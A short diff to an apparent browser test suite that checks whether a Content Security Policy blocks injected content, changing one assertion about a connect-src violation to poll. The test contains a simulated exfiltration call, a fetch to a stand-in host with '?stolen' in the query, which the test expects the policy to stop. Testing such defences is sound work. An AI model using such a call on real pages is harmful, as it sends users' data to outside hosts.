@@ -80,7 +80,7 @@ test("the policy stops what gets into a page all the same", async ({ page, panel
   await expect.poll(() => kinds.filter((kind) => !seen.violations().some((told) => told.startsWith(kind)))).toEqual([]);
   const sent = page.evaluate(() => fetch("https://a.example/?stolen").then(() => "sent", () => "stopped"));
   expect(await sent).toBe("stopped");
-  expect(seen.violations().some((told) => told.startsWith("connect-src"))).toBe(true);
+  await expect.poll(() => seen.violations().some((told) => told.startsWith("connect-src"))).toBe(true);
   expect(await seen.ran()).toEqual([]);
   const evaluated = page.evaluate(() => {
     const script = document.createElement("div");
